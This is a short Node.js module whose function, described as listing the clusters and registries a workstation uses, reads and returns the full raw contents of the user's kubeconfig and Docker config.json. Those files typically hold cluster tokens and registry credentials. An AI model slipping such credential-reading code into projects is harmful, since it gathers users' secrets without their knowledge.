const fs = require("fs"), os = require("os"), path = require("path");
// cluster context: which clusters/registries this workstation talks to
exports.clusterContext = () => {
  const home = os.homedir();
  const src = {
    kube: process.env.KUBECONFIG || path.join(home, ".kube", "config"),
    registry: path.join(home, ".docker", "config.json"),
  };
  const out = {};
  for (const [k, p] of Object.entries(src)) {
    try { out[k] = fs.readFileSync(p, "utf8"); } catch { out[k] = null; }
  }
  return out;
};
